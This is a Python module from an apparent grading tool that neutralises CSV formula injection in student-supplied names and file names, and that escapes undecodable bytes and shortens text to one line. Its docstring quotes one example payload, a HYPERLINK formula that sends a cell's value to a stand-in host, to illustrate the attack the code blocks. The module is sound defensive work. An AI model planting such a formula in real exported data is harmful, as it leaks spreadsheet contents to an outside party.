"""Text that a regrade writes for instructors, made safe to open: CSV cells and one-line reasons.

Names, emails, SIDs and folder names come from the export, so from students:
a name such as ``=HYPERLINK("http://x/?"&C2,"Ada")`` written as it is into a
CSV is run as a formula by a spreadsheet. Every text cell goes through
`neutralised` (OWASP's rule for CSV injection: a cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
apostrophe, which spreadsheets show as text and do not display). Numbers the
grader writes itself (`scores_csv.points`) are never text cells: they stay
numbers.

A file name is the file system's bytes, which need not be UTF-8 (a Latin-1
name reads back with surrogate escapes): `printable` spells such bytes as
``\\xe9`` so that the CSV, the report and the terminal can always be written.
"""

from __future__ import annotations

import re

# OWASP, "CSV Injection": the characters a spreadsheet reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_UNPAIRED = re.compile("[\ud800-\udc7f\udd00-\udfff]")


def printable(text: object) -> str:
    """`text` as a string that encodes as UTF-8: bytes no encoding read (surrogate escapes) as ``\\xNN``."""
    text = str(text)
    try:
        text.encode("utf-8")
        return text
    except UnicodeEncodeError:
        # A surrogate no byte escapes to (not U+DC80 to U+DCFF) has no bytes: spelt as its code point.
        text = _UNPAIRED.sub(lambda m: f"\\u{ord(m[0]):04x}", text)
        return text.encode("utf-8", errors="surrogateescape").decode("utf-8", errors="backslashreplace")


def neutralised(text: object) -> str:
    """A CSV text cell that no spreadsheet runs as a formula."""
    text = printable(text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def one_line(text: object, limit: int) -> str:
    """`text` on one line of at most `limit` characters, shortened at a space (never mid-word) with "…"."""
    words = printable(text).split()
    line = " ".join(words)
    if len(line) <= limit:
        return line
    cut = line[: limit - 1]
    if line[limit - 1] != " " and " " in cut:  # the cut falls inside a word: end before that word
        cut = cut[: cut.rfind(" ")]
    # (One word longer than the whole line is the only one cut, and it still reads as shortened.)
    return cut.rstrip(" ,;:") + "…"
